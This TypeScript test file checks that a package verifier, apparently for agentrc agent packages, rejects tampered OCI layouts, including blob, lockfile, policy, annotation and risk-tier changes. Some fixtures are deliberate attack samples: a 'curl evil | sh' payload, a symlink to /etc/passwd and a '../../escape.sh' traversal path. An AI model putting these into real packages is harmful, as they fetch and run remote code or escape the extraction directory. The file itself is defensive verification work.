import assert from "node:assert/strict";
import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { type VerifyResult, verify } from "../../src/api.js";
import { build } from "../../src/index.js";
import { writeOciArchive } from "../../src/oci/archive.js";
import { OciLayout } from "../../src/oci/layout.js";
import { buildCopy } from "../helpers/build.js";
import { runCli } from "../helpers/cli.js";
import { copyTree } from "../helpers/copyTree.js";
import { PackageTamper, packageEntry, rewriteTarLayer, sha256 } from "../helpers/tamper.js";

let base: string;
let layout: string;
let builtDir: string;
let n = 0;

before(async () => {
  base = await mkdtemp(join(tmpdir(), "agentrc-verify-"));
  delete process.env.SOURCE_DATE_EPOCH;
  const built = await buildCopy("agents/full", { base });
  assert.equal(built.result.errorCount, 0);
  layout = built.layout;
  builtDir = built.dir;
});
after(() => rm(base, { recursive: true, force: true }));

/** A fresh copy of the built layout, tampered with by `edit`. */
async function tampered(edit: (t: PackageTamper) => Promise<void>): Promise<string> {
  const dir = join(base, `tampered-${n++}`);
  await copyTree(layout, dir);
  await edit(await PackageTamper.open(dir));
  return dir;
}

/** verify must fail with exactly these codes, each naming its part, and a message matching `message`. */
async function expectFailure(
  dir: string,
  code: string,
  part: RegExp,
  message: RegExp,
): Promise<VerifyResult> {
  const result = await verify(dir);
  assert.equal(result.ok, false, "verify passed a tampered package");
  assert.deepEqual(
    result.failures.map((f) => f.code),
    [code],
    `expected only ${code}: ${JSON.stringify(result.failures, null, 2)}`,
  );
  assert.match(result.failures[0]!.part, part);
  assert.match(result.failures[0]!.message, message);
  // The CLI reports it too: exit 1, the code in the JSON and on stderr.
  const cli = await runCli(["verify", dir, "--json"]);
  assert.equal(cli.code, 1, cli.stdout + cli.stderr);
  assert.deepEqual(
    (JSON.parse(cli.stdout) as VerifyResult).failures.map((f) => f.code),
    [code],
  );
  const human = await runCli(["verify", dir]);
  assert.equal(human.code, 1);
  assert.match(human.stdout, new RegExp(`✘ .*\\n\\s+${code}`));
  assert.match(human.stderr, new RegExp(`verification failed: 1 problem \\(${code}\\)`));
  return result;
}

test("an untouched package passes every check", async () => {
  const result = await verify(layout);
  assert.deepEqual(result.failures, []);
  assert.equal(result.ok, true);
  assert.deepEqual(
    result.checks.map((c) => [c.name, c.status]),
    [
      "blobs",
      "layers",
      "uncompressed",
      "files",
      "policy",
      "lock",
      "annotations",
      "risk",
      "signatures",
      "provenance",
    ].map((c) => [c, "passed"]),
  );
  // Every build records its provenance beside the package (unsigned without --sign-key).
  assert.deepEqual(
    result.attachments.map((a) => [a.kind, a.status]),
    [["provenance", "unsigned"]],
  );
  assert.equal(result.provenance?.signed, false);
  const cli = await runCli(["verify", layout]);
  assert.equal(cli.code, 0, cli.stderr);
  assert.match(cli.stdout, /verified: 10 checks passed/);
});

test("verify reads an oci-archive and the local store the same way", async () => {
  const archive = join(base, "full.tar");
  await writeOciArchive(await OciLayout.open(layout), archive);
  const fromArchive = await verify(archive);
  assert.equal(fromArchive.kind, "archive");
  assert.deepEqual(fromArchive.failures, []);
  // A lying file index inside an archive is found too.
  const lying = await tampered(async (t) => {
    t.config.files.find((f: { path: string }) => f.path === "Agentfile").size += 1;
    await t.commit();
  });
  await writeOciArchive(await OciLayout.open(lying), join(base, "lying.tar"));
  const bad = await verify(`oci-archive:${join(base, "lying.tar")}:1`);
  assert.deepEqual(
    bad.failures.map((f) => [f.code, f.part]),
    [["PACKAGE_FILE_MISMATCH", "file Agentfile"]],
  );
  const store = join(base, "verify-store");
  const r = await build({
    dir: builtDir,
    cacheDir: join(base, "cache"),
    config: { build: { tags: ["localhost/verify/full:1"], store } },
  });
  assert.equal(r.errorCount, 0);
  const fromStore = await verify("localhost/verify/full:1", { store });
  assert.equal(fromStore.kind, "store");
  assert.deepEqual(fromStore.failures, []);
});

describe("every check fails with its own code when its part is tampered with", () => {
  test("a layer blob whose bytes changed", async () => {
    let title = "";
    const dir = await tampered(async (t) => {
      const l = t.layer("data");
      title = "data";
      await t.corruptInPlace(l.digest, (b) => {
        const c = Buffer.from(b);
        c.writeUInt8(c.readUInt8(20) ^ 0xff, 20);
        return c;
      });
    });
    // A flipped byte inside the gzip stream also makes the layer unreadable or its content differ; the blob check
    // names it either way, and nothing is trusted from a blob that fails its digest.
    const result = await verify(dir);
    assert.ok(
      result.failures.some((f) => f.code === "PACKAGE_BLOB_DIGEST_MISMATCH" && f.part === `layer ${title}`),
    );
  });

  test("a policy blob whose bytes changed (same size)", async () => {
    const dir = await tampered(async (t) => {
      await t.corruptInPlace(t.layer("policy/agent.cedar").digest, (b) =>
        Buffer.from(b.toString("utf8").replace("permit", "forbid")),
      );
    });
    // Bytes that do not match their digest are not the package's: only the blob check reports them.
    await expectFailure(
      dir,
      "PACKAGE_BLOB_DIGEST_MISMATCH",
      /^layer policy\/agent\.cedar$/,
      /layer policy\/agent\.cedar hashes to sha256:\w+; the manifest says sha256:/,
    );
  });

  test("the manifest blob changed in place", async () => {
    const dir = await tampered(async (t) => {
      // The tag still names the old digest; the bytes under it now claim a lower risk tier.
      const index = JSON.parse(await readFile(join(t.root, "index.json"), "utf8"));
      await t.corruptInPlace(packageEntry(index).digest, (b) =>
        Buffer.from(
          b.toString("utf8").replace('"io.agentrc.risk.tier":"medium"', '"io.agentrc.risk.tier":"low"   '),
        ),
      );
    });
    await expectFailure(
      dir,
      "PACKAGE_BLOB_DIGEST_MISMATCH",
      /^manifest$/,
      /the manifest hashes to sha256:\w+, not/,
    );
  });

  test("the config blob changed in place", async () => {
    const dir = await tampered(async (t) => {
      await t.corruptInPlace(t.manifest.config.digest, (b) =>
        Buffer.from(b.toString("utf8").replace('"name":"full-agent"', '"name":"fool-agent"')),
      );
    });
    const result = await expectFailure(
      dir,
      "PACKAGE_BLOB_DIGEST_MISMATCH",
      /^config$/,
      /the config hashes to sha256:\w+, not sha256:/,
    );
    // What an unverifiable config says is not checked further.
    assert.deepEqual(
      result.checks.map((c) => c.status),
      // The signatures are about the digest the layout names, not the bytes under it: still checked.
      [
        "failed",
        "skipped",
        "skipped",
        "skipped",
        "skipped",
        "skipped",
        "skipped",
        "skipped",
        "passed",
        "passed",
      ],
    );
  });

  test("a blob whose descriptors declare another size", async () => {
    const dir = await tampered(async (t) => {
      t.layer("tools").size += 1;
      t.configLayer("tools").size += 1;
      await t.commit();
    });
    await expectFailure(
      dir,
      "PACKAGE_BLOB_SIZE_MISMATCH",
      /^layer tools$/,
      /has \d+ bytes; the manifest says \d+/,
    );
  });

  test("a missing layer blob", async () => {
    const dir = await tampered(async (t) => t.deleteBlob(t.layer("skills/summarize").digest));
    await expectFailure(dir, "PACKAGE_BLOB_MISSING", /^layer skills\/summarize$/, /is not in /);
  });

  test("the config's layer list disagrees with the manifest", async () => {
    const dir = await tampered(async (t) => {
      t.configLayer("src").digest = sha256("something else");
      await t.commit();
    });
    await expectFailure(
      dir,
      "PACKAGE_LAYER_MISMATCH",
      /^layer src$/,
      /layer src: the config says digest sha256:\w+ ≠ sha256:/,
    );
  });

  test("the config's uncompressed digest lies", async () => {
    const dir = await tampered(async (t) => {
      t.configLayer("data").uncompressedDigest = sha256("not the tar");
      await t.commit();
    });
    await expectFailure(
      dir,
      "PACKAGE_LAYER_UNCOMPRESSED_MISMATCH",
      /^layer data$/,
      /layer data uncompresses to sha256:\w+, but the config says sha256:/,
    );
  });

  test("the oras content digest annotation lies", async () => {
    const dir = await tampered(async (t) => {
      t.layer("tools").annotations["io.deis.oras.content.digest"] = sha256("x");
      t.configLayer("tools").digest = t.layer("tools").digest; // unchanged, the config is consistent
      await t.commit();
    });
    await expectFailure(
      dir,
      "PACKAGE_LAYER_UNCOMPRESSED_MISMATCH",
      /^layer tools$/,
      /io\.deis\.oras\.content\.digest says sha256:/,
    );
  });

  test("a layer that is not gzip", async () => {
    const dir = await tampered(async (t) => {
      await t.replaceLayer("src", Buffer.from("plain text, not a tar"));
      await t.commit();
    });
    await expectFailure(dir, "PACKAGE_LAYER_UNREADABLE", /^layer src$/, /layer src is not gzip/);
  });

  test("a file index entry with another sha256", async () => {
    const dir = await tampered(async (t) => {
      t.config.files.find((f: { path: string }) => f.path === "tools/lint.sh").sha256 = sha256("harmless");
      await t.commit();
    });
    await expectFailure(
      dir,
      "PACKAGE_FILE_MISMATCH",
      /^file tools\/lint\.sh$/,
      /tools\/lint\.sh in layer tools: sha256 is sha256:\w+, index says sha256:/,
    );
  });

  test("a file index entry with another mode", async () => {
    const dir = await tampered(async (t) => {
      t.config.files.find((f: { path: string }) => f.path === "tools/lint.sh").mode = 0o644;
      await t.commit();
    });
    await expectFailure(
      dir,
      "PACKAGE_FILE_MISMATCH",
      /^file tools\/lint\.sh$/,
      /mode is 0755, index says 0644/,
    );
  });

  test("a file index entry that names another size and layer", async () => {
    const dir = await tampered(async (t) => {
      const f = t.config.files.find((x: { path: string }) => x.path === "data/docs/index.md");
      f.size += 5;
      f.layer = "src";
      await t.commit();
    });
    await expectFailure(
      dir,
      "PACKAGE_FILE_MISMATCH",
      /^file data\/docs\/index\.md$/,
      /layer is data, index says src; size is/,
    );
  });

  test("the index lists a file no layer holds", async () => {
    const dir = await tampered(async (t) => {
      t.config.files.push({ path: "data/ghost.md", sha256: sha256(""), size: 0, mode: 0o644, layer: "data" });
      await t.commit();
    });
    await expectFailure(
      dir,
      "PACKAGE_FILE_MISSING",
      /^file data\/ghost\.md$/,
      /lists data\/ghost\.md \(layer data\), which no layer holds/,
    );
  });

  test("a layer holds a file the index does not list", async () => {
    const dir = await tampered(async (t) => {
      const bytes = await rewriteTarLayer(await t.read(t.layer("data").digest), (entries) => [
        ...entries,
        {
          header: { name: "data/payload.sh", type: "file", mode: 0o755, mtime: new Date(0), uid: 0, gid: 0 },
          content: Buffer.from("curl evil | sh\n"),
        },
      ]);
      await t.replaceLayer("data", bytes);
      await t.commit();
    });
    await expectFailure(
      dir,
      "PACKAGE_FILE_UNLISTED",
      /^file data\/payload\.sh$/,
      /layer data holds data\/payload\.sh \(15 bytes, sha256:\w+\), which the file index does not list/,
    );
  });

  test("a layer holds a symlink", async () => {
    const dir = await tampered(async (t) => {
      const bytes = await rewriteTarLayer(await t.read(t.layer("tools").digest), (entries) => [
        ...entries,
        {
          header: {
            name: "tools/passwd",
            type: "symlink",
            linkname: "/etc/passwd",
            mode: 0o777,
            mtime: new Date(0),
          },
          content: Buffer.alloc(0),
        },
      ]);
      await t.replaceLayer("tools", bytes);
      await t.commit();
    });
    // The code pull -o would refuse it with.
    await expectFailure(
      dir,
      "OCI_EXTRACT_LINK_ESCAPE",
      /^file tools\/passwd$/,
      /layer tools: The tarball holds a symlink "tools\/passwd"; links are not allowed here/,
    );
  });

  test("a layer holds a path that climbs out, listed in the index", async () => {
    const dir = await tampered(async (t) => {
      const content = Buffer.from("x");
      const bytes = await rewriteTarLayer(await t.read(t.layer("data").digest), (entries) => [
        ...entries,
        { header: { name: "data/../../escape.sh", type: "file", mode: 0o644, mtime: new Date(0) }, content },
      ]);
      await t.replaceLayer("data", bytes);
      t.config.files.push({
        path: "data/../../escape.sh",
        sha256: sha256(content),
        size: 1,
        mode: 0o644,
        layer: "data",
      });
      await t.commit();
    });
    await expectFailure(
      dir,
      "OCI_EXTRACT_PATH_UNSAFE",
      /^file data\/\.\.\/\.\.\/escape\.sh$/,
      /contains "\.\."/,
    );
  });

  test("a policy layer that no longer matches the policy hash", async () => {
    const dir = await tampered(async (t) => {
      const text = (await t.read(t.layer("policy/agent.cedar").digest)).toString("utf8");
      await t.replaceLayer(
        "policy/agent.cedar",
        Buffer.from(`${text}\npermit (principal, action, resource);\n`),
      );
      await t.commit();
    });
    await expectFailure(
      dir,
      "PACKAGE_POLICY_HASH_MISMATCH",
      /^layer policy\/agent\.cedar$/,
      /the policy layer hashes to sha256:\w+; the config's policyHash is sha256:/,
    );
  });

  test("a policy hash annotation that disagrees with the config", async () => {
    const dir = await tampered(async (t) => {
      t.manifest.annotations["io.agentrc.policy.hash"] = sha256("permit (principal, action, resource);");
      await t.commitManifest();
    });
    await expectFailure(
      dir,
      "PACKAGE_POLICY_HASH_MISMATCH",
      /^annotation io\.agentrc\.policy\.hash$/,
      /annotation io\.agentrc\.policy\.hash is sha256:\w+; the config's policyHash is sha256:/,
    );
  });

  test("a lockfile that disagrees with the config", async () => {
    const dir = await tampered(async (t) => {
      const lock = JSON.parse((await t.read(t.layer("agentrc.lock").digest)).toString("utf8"));
      lock.credential_names = ["github", "aws-admin"];
      await t.replaceLayer("agentrc.lock", Buffer.from(JSON.stringify(lock, null, 2)));
      await t.commit();
    });
    await expectFailure(
      dir,
      "PACKAGE_LOCK_MISMATCH",
      /^lock credential_names$/,
      /the lock's credential names \(github, aws-admin\) are not the agent's CREDs \(github\)/,
    );
  });

  test("a lockfile that pins a tool to other bytes", async () => {
    const dir = await tampered(async (t) => {
      const lock = JSON.parse((await t.read(t.layer("agentrc.lock").digest)).toString("utf8"));
      lock.tools.find((x: { name: string }) => x.name === "local:lint").digest =
        sha256("the reviewed lint.sh");
      await t.replaceLayer("agentrc.lock", Buffer.from(JSON.stringify(lock, null, 2)));
      await t.commit();
    });
    await expectFailure(
      dir,
      "PACKAGE_LOCK_MISMATCH",
      /^lock tools$/,
      /pins tool local:lint \(tools\/lint\.sh\) to sha256:\w+; the package holds sha256:/,
    );
  });

  test("a lockfile that is not a lockfile", async () => {
    const dir = await tampered(async (t) => {
      await t.replaceLayer("agentrc.lock", Buffer.from('{"version":"agentrc.lock/v9"}'));
      await t.commit();
    });
    await expectFailure(dir, "PACKAGE_LOCK_MISMATCH", /^lock file$/, /is not a valid agentrc\.lock/);
  });

  test("an agent name annotation that disagrees with the config", async () => {
    const dir = await tampered(async (t) => {
      t.manifest.annotations["io.agentrc.agent.name"] = "trusted-agent";
      await t.commitManifest();
    });
    await expectFailure(
      dir,
      "PACKAGE_ANNOTATION_MISMATCH",
      /^annotation io\.agentrc\.agent\.name$/,
      /annotation io\.agentrc\.agent\.name is "trusted-agent"; the config says "full-agent"/,
    );
  });

  test("a risk tier annotation that understates the agent", async () => {
    const dir = await tampered(async (t) => {
      t.manifest.annotations["io.agentrc.risk.tier"] = "low";
      await t.commitManifest();
    });
    await expectFailure(
      dir,
      "PACKAGE_RISK_TIER_MISMATCH",
      /^annotation io\.agentrc\.risk\.tier$/,
      /is "low"; the agent's directives make it medium/,
    );
  });

  test("a risk tier raised above the derived one is accepted (plugins may raise it)", async () => {
    const dir = await tampered(async (t) => {
      t.manifest.annotations["io.agentrc.risk.tier"] = "high";
      await t.commitManifest();
    });
    const result = await verify(dir);
    assert.deepEqual(result.failures, []);
    assert.equal(
      result.checks.find((c) => c.name === "risk")!.detail,
      "risk tier high, raised from the derived medium",
    );
  });
});
